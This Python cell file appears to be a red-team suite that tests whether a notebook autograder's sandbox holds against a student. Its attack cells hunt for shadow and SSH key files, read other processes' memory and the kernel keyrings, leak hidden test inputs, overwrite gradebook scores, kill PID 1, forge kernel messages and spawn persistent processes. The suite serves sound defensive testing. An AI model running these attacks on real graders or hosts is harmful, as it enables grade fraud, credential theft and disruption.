# Attacks on what students must not know or touch. Whoever gets somewhere prints BREACH, or what was found.

# %% reading the disk: a walk over everything
import os, re
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "lib64", "fonts", "zoneinfo") and not re.search("python3|linux-gnu", name)]
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith((".ipynb", ".db", ".toml", ".md")) or name in ("nbgrader_config.py", "shadow", "id_ed25519", "instructor.txt"):
            print("BREACH", path)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 200_000:
                content = open(path, "rb").read()
                if b"canary-" in content:
                    print(path, content)
        except OSError:
            pass

# %% reading the disk: the paths that the mounts give away
import os, re
text = open("/proc/self/mountinfo").read()
for place in set(re.findall(r"/[\w./-]+", text)):
    folder = place
    while len(folder) > 1:
        for name in ("solutions", "submitted", "gradebook.db", "nbgrader_config.py", "instructor.txt", ".git", "home", "class"):
            if os.path.exists(f"{folder}/{name}") and folder not in ("/", "/kernel"):
                print("BREACH", folder, name)
        folder = os.path.dirname(folder)

# %% reading the disk: other processes' folders and memory
import os, glob
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for path in (f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", f"/proc/{pid}/mem", f"/proc/{pid}/maps"):
        try:
            content = open(path, "rb").read(100_000)
            if b"canary-" in content or b"nbgrader" in content:
                print("BREACH", path, content)
        except OSError:
            pass
    for name in ("root", "cwd"):
        try:
            found = os.listdir(f"/proc/{pid}/{name}")
            if {"solutions", "work", "etc"} & (set(found) - set(os.listdir("/"))):
                print("BREACH", pid, found)
        except OSError:
            pass
    if len(glob.glob("/proc/[0-9]*")) > 3:
        print("BREACH: more processes than the kernel's own", os.listdir("/proc"))

# %% reading the disk: descriptors that were left open
import os, stat
for pid in ("self", "1", str(os.getppid())):
    try:
        for name in os.listdir(f"/proc/{pid}/fd"):
            target = os.readlink(f"/proc/{pid}/fd/{name}")
            if target.startswith("pipe:") and pid != "self" or target.endswith((".ipynb", ".db", "stdout")):
                print("BREACH", pid, name, target)
                os.write(os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK), b'{"pid": 1, "alive": false, "why": "forged"}\n')
    except OSError:
        pass
for number in range(3):
    try:
        if os.isatty(number) or stat.S_ISFIFO(os.fstat(number).st_mode):
            os.write(number, b"BREACH: the instructor's own output\n")
    except OSError:
        pass

# %% reading the disk: the instructor's modules
found = []
for name in ["autograde.grading", "autograde.proxies", "autograde.testing", "autograde.assignment", "nbgrader", "nbformat", "nbclient",
             "miniconv", "scipy", "skimage", "torch", "cv2", "sqlalchemy", "jupytext"]:
    try:
        __import__(name)
        found.append(name)
    except ImportError:
        pass
if found:
    print("BREACH", found)

# %% environment: everything in it
import os
print(dict(os.environ), open("/proc/self/environ", "rb").read() if os.access("/proc/self/environ", os.R_OK) else "")
for name in os.environ:
    if name in ("TEST_SEED", "CLASS_DIR", "CANARY", "VIRTUAL_ENV", "SSH_AUTH_SOCK"):
        print("BREACH", name)
import pwd
try:
    print(pwd.getpwuid(os.getuid()))
except KeyError:
    pass

# %% environment: the seed of the tests
import os, random
state = {}
original = np.random.default_rng
def fixed(seed=None):
    state["seed"] = seed
    return original(0)
np.random.default_rng = fixed
os.environ["TEST_SEED"] = "0"
np.random.seed(0), random.seed(0)
# after corr2d
import os
if state.get("seed") is not None or os.environ.get("TEST_SEED") != "0":
    print("BREACH", state, os.environ.get("TEST_SEED"))

# %% environment: the keys in the kernel's keyrings
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
keyctl, add_key = {"x86_64": (250, 248), "aarch64": (219, 217)}[platform.machine()]
SESSION, READ, SEARCH, DESCRIBE = -3, 11, 10, 6
room = ctypes.create_string_buffer(4000)
for ring in (SESSION, -4, -5):
    size = libc.syscall(keyctl, READ, ring, room, 4000, 0)
    for start in range(0, max(size, 0), 4):
        key = int.from_bytes(room.raw[start:start + 4], "little", signed=True)
        content = ctypes.create_string_buffer(4000)
        length = libc.syscall(keyctl, READ, key, content, 4000, 0)
        if length > 0 and b"canary" in content.raw[:length]:
            print("BREACH", content.raw[:length])

# %% exfiltration: hidden arguments in the text of an exception
# cell corr2d
seen = []
def corr2d(image, kernel):
    seen.append(float(image[0, 0]))
    raise ValueError(f"{seen}")
# cell box_filter
def box_filter(image, size):
    raise ValueError(f"{[int(value) for value in seen]}")

# %% exfiltration: a hidden argument as a length, which the words of a visible test quote
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return image
# cell box_filter
class Long:
    def __len__(self):
        return max(seen)
def box_filter(image, size):
    return Long()

# %% exfiltration: hidden arguments in the name of an exception
# cell corr2d
seen = []
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    raise type(f"Saw{max(seen)}", (ValueError,), {})()
# cell box_filter
def box_filter(image, size):
    raise type(f"Saw{max(seen)}", (ValueError,), {})()
# after box_filter
raise type(f"Saw{max(seen)}", (ValueError,), {})()

# %% exfiltration: hidden arguments in names of functions, types and modules
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return type(f"Saw{max(seen)}", (), {})()
# cell box_filter
def named():
    def box_filter(image, size):
        raise NotImplementedError
    for name in ("__name__", "__qualname__", "__module__", "__doc__"):
        setattr(box_filter, name, f"saw{max(seen)}")
    return box_filter
box_filter = named()
# after corr2d
box_filter = type(f"Saw{max(seen)}", (), {"__call__": lambda self, *a: self})()
globals()[f"saw{max(seen)}"] = 1

# %% exfiltration: hidden arguments in a long path of known names
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return 0
# cell box_filter
import autograde.agent
def about(error):
    digits = "".join(bin(max(seen))[2:])
    return {"name": "NotImplementedError", "kinds": ["NotImplementedError"], "text": "",
            "raised_in": ".".join("image" if digit == "1" else "size" for digit in digits)}
autograde.agent._about = about
def box_filter(image, size):
    raise NotImplementedError

# %% exfiltration: hidden arguments in shapes
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return np.zeros((0, max(seen)))
# cell box_filter
def box_filter(image, size):
    return np.zeros((max(seen), 0, 1))

# %% exfiltration: hidden arguments in dtypes and in lengths
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return np.zeros((0, 1), f"U{max(seen)}")
# cell box_filter
def box_filter(image, size):
    return np.zeros((4, 6), "f4") if 0 else [0] * max(seen)

# %% exfiltration: hidden arguments in the values of a later task
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return np.ones(np.subtract(image.shape, kernel.shape) + 1) * max(seen)
# cell box_filter
def box_filter(image, size):
    return np.ones((image.shape[0] - size + 1, image.shape[1] - size + 1)) * max(seen)

# %% exfiltration: hidden arguments in what later cells print, show, raise and write
# cell corr2d
seen = [0]
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    print(seen, flush=True)
    return 0
# after corr2d
import os, sys, IPython.display
print(seen)
print(seen, file=sys.stderr)
for number in (1, 2):
    os.write(number, str(seen).encode())
IPython.display.display(IPython.display.HTML(f"<b>{seen}</b>"), {"text/plain": str(seen)}, raw=True)
open("/home/student/seen.txt", "w").write(str(seen))
open("/tmp/seen.txt", "w").write(str(seen))
get_ipython().set_next_input(str(seen))
get_ipython().payload_manager.write_payload({"source": "page", "data": {"text/plain": str(seen)}})
assert False, seen

# %% exfiltration: hidden arguments in messages of the kernel for earlier cells
kernel = get_ipython().kernel
parent = kernel.get_parent()
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "early"}, parent)
seen = [0]
import threading, time
def tell():
    while True:
        time.sleep(0.05)
        for request in [parent, kernel.get_parent()]:
            for kind, content in [("stream", {"name": "stdout", "text": f"{max(seen)}\n"}),
                                  ("error", {"ename": f"{max(seen)}", "evalue": f"{max(seen)}", "traceback": [f"{max(seen)}"]}),
                                  ("display_data", {"data": {"text/plain": f"{max(seen)}"}, "metadata": {}})]:
                if max(seen):
                    kernel.session.send(kernel.iopub_socket, kind, content, request)
threading.Thread(target=tell, daemon=True).start()
# cell corr2d
def corr2d(image, kernel):
    seen.append(int(image[0, 0]))
    return 0
# after corr2d
import time
time.sleep(0.3)
# cell box_filter
def box_filter(image, size):
    import time
    time.sleep(0.3)
    raise ValueError(max(seen))

# %% exfiltration: the same student later, through a file
import glob
for path in glob.glob("/tmp/*") + glob.glob("/dev/shm/*") + glob.glob("/home/student/left*") + glob.glob("/kernel/*"):
    if "left-" in path:
        print("BREACH", path)
for folder in ("/tmp", "/dev/shm", "/home/student", "/kernel", "/", "/dev"):
    try:
        open(f"{folder}/left-behind", "w").write("for the next one")
    except OSError:
        pass

# %% exfiltration: the student before left a file
import glob
found = [path for folder in ("/tmp", "/dev/shm", "/home/student", "/kernel", "/", "/dev", "/grader") for path in glob.glob(f"{folder}/left-*")]
if found:
    print("BREACH", found)

# %% network: out, to the host and to the name server
import socket
for address in [("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 8888), ("1.1.1.1", 53), ("169.254.169.254", 80), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(address, 0.5)
        print("BREACH", address)
    except OSError:
        pass
try:
    print("BREACH", socket.gethostbyname("example.org"))
except OSError:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print("BREACH: a raw socket")
except OSError:
    pass
if [line for line in open("/proc/net/dev").read().splitlines()[2:] if line.split(":")[0].strip() != "lo"]:
    print("BREACH: an interface")

# %% network: sockets of other programs
import glob, os
for line in open("/proc/net/unix").read().splitlines()[1:]:
    path = line.split()[-1]
    if path.startswith(("@", "/")) and not path.startswith("/kernel/"):
        print("BREACH", path)
for path in glob.glob("/run/**", recursive=True) + glob.glob("/var/run/**", recursive=True) + glob.glob("/tmp/grade-*/*"):
    if os.path.lexists(path):
        print("BREACH", path)

# %% privileges: namespaces, mounts and more room
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def try_namespaces():
    uid = os.getuid()
    if libc.unshare(0x10000000 | 0x20000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=4g") == 0:
            return "a file system of any size"
        return "a namespace"
child = os.fork()
if child == 0:
    try:
        found = try_namespaces()
    except OSError:
        found = ""
    os._exit(7 if found else 0)
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    print("BREACH: namespaces")
for flag in (0x20000, 0x20000000, 0x40000000, 0x4000000, 0x8000000, 0x2000000):
    if libc.unshare(flag) == 0:
        print("BREACH", hex(flag))

# %% privileges: another user, capabilities, devices, the host's settings
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
for words, work in [("setuid", lambda: os.setuid(0)), ("setgid", lambda: os.setgid(0)), ("setgroups", lambda: os.setgroups([0])),
                    ("chroot", lambda: os.chroot("/tmp")), ("mknod", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(259, 0))),
                    ("sethostname", lambda: __import__("socket").sethostname("breach")), ("nice", lambda: os.nice(-5)),
                    ("chown", lambda: os.chown("/home/student", 0, 0)), ("ptrace", lambda: open("/proc/1/mem", "r+b"))]:
    try:
        work()
        print("BREACH", words)
    except OSError:
        pass
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
if any(int(status[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")) or status["NoNewPrivs"].strip() != "1":
    print("BREACH", {name: value for name, value in status.items() if name.startswith("Cap")})
if os.getuid() == 0 or 0 in os.getgroups():
    print("BREACH: root")
for path in glob.glob("/proc/sys/**", recursive=True) + ["/proc/sysrq-trigger", "/proc/kcore", "/dev/mem", "/dev/kmsg"]:
    try:
        open(path, "r+b").close()
        print("BREACH", path)
    except OSError:
        pass

# %% privileges: signals to others
import os, signal
threads = set(map(int, os.listdir("/proc/self/task")))  # a signal to a thread of its own is one to itself
for pid in range(2, 40):
    if pid not in threads:
        try:
            os.kill(pid, 0)
            print("BREACH", pid)
        except OSError:
            pass
for pid in (1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
        os.kill(pid, signal.SIGTERM)
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass

# %% privileges: setuid programs and a new program
import os, subprocess, sys
for path in ("/usr/bin/sudo", "/usr/bin/su", "/bin/su", "/usr/bin/newuidmap", "/usr/bin/mount", "/usr/bin/bwrap", "/bin/sh"):
    if os.path.exists(path):
        print("BREACH", path)
done = subprocess.run([sys.executable, "-c", "import os; print(os.getuid(), open('/proc/self/status').read())"], capture_output=True, text=True)
if done.stdout.split()[:1] == ["0"] or "CapEff:\t0000000000000000" not in done.stdout:
    print("BREACH", done.stdout, done.stderr)

# %% privileges: first to be killed when memory is short
import os, subprocess, sys
done = subprocess.run([sys.executable, "-c", "file = open('/proc/self/oom_score_adj', 'w'); file.write('-10'); file.close()"],
                      capture_output=True)
if done.returncode == 0 or int(open("/proc/self/oom_score_adj").read()) < 0:
    print("BREACH: protected from the kernel's choice")

# %% sockets: the doors of the kernel replaced by links
import os, glob
for path in glob.glob("/kernel/socket-*"):
    for target in ("/tmp/secret", "../2/socket-1", "/proc/self/fd/0", "/var/run/docker.sock"):
        try:
            os.unlink(path)
            os.symlink(target, path)
            print("BREACH", path)
        except OSError:
            pass
# cell output_shape
while True:
    pass

# %% sockets: another connection file, other permissions
import os, json
for work in (lambda: os.chmod("/kernel", 0o777), lambda: open("/kernel/connection.json", "w").write("{}"), lambda: os.mkfifo("/kernel/socket-9"),
             lambda: os.symlink("/etc", "/kernel/files/etc"), lambda: os.rename("/kernel/connection.json", "/kernel/old.json"),
             lambda: os.rmdir("/kernel")):
    try:
        work()
        print("BREACH: the folder of the connection can be changed")
    except OSError:
        pass

# %% sockets: messages to the own kernel, as if from the grader
import json, zmq, threading
from jupyter_client.session import Session
connection = json.load(open("/kernel/connection.json"))
session = Session(key=connection["key"].encode())
control = zmq.Context.instance().socket(zmq.DEALER)
control.connect(f"ipc:///kernel/socket-{connection['control_port']}")
for kind in ("shutdown_request", "interrupt_request", "debug_request", "create_subshell_request"):
    session.send(control, kind, {"restart": False})

# %% writing: wherever it is possible
import os
kept = ("/tmp", "/home/student", "/dev/shm", "/proc")
for folder, folders, _ in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in kept]
    try:
        path = os.path.join(folder, "written-by-a-student.py")
        open(path, "w").close()
        print("BREACH", path)
        os.unlink(path)
    except OSError:
        pass

# %% writing: the gradebook, the solutions, the configuration and another's work
import os, sqlite3, glob
for path in ["gradebook.db", "../gradebook.db", "../../../gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
    if os.path.exists(path):
        print("BREACH", path)
        sqlite3.connect(path).execute("update grade set manual_score = 99, auto_score = 99").connection.commit()
for path in glob.glob("/**/nbgrader_config.py", recursive=True) + glob.glob("/**/solutions", recursive=True) + \
        glob.glob("/**/submitted/*", recursive=True):
    print("BREACH", path)

# %% writing: the libraries
import autograde.agent, IPython, os, sys, zmq
for module in (np, autograde.agent, IPython, zmq, os, sys.modules["checks"]):
    if not module.__file__.startswith("/home/student"):
        for path in (module.__file__, os.path.dirname(module.__file__) + "/more.py"):
            try:
                open(path, "a").write("\nprint('BREACH')\n")
                print("BREACH", path)
            except OSError:
                pass

# %% background: a process that outlives its kernel
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(0.1)
    os._exit(0)

# %% background: threads, exit handlers and a program of its own
import atexit, subprocess, sys, threading, time
atexit.register(time.sleep, 1000)
threading.Thread(target=time.sleep, args=(1000,)).start()
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"], start_new_session=True)
# cell output_shape
import os
os.kill(os.getpid(), 9)
